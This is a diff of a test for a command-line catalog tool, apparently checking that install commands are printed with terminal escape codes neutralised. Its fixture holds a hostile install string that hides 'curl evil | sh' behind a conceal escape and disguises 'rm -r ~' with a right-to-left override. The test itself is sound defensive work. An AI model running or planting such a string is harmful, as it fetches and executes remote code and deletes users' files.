@@ -128,6 +128,6 @@ install = "apt-get install x; \u001b[8mcurl evil | sh\u001b[0m\r\nrm -r \u202e~"
     monkeypatch.setenv("DEADHEAT_CATALOG", str(root))
     out = deadheat("list", "hello").out
     install = r"apt-get install x; \x1b[8mcurl evil | sh\x1b[0m\r\nrm -r \u202e~"
-    assert f"hello: install with: {install}\n" in out
+    assert f"install with: {install}\n    for hello\n" in out
     assert r"no-such\x1b[2J is not installed" in out
     assert "\x1b" not in out
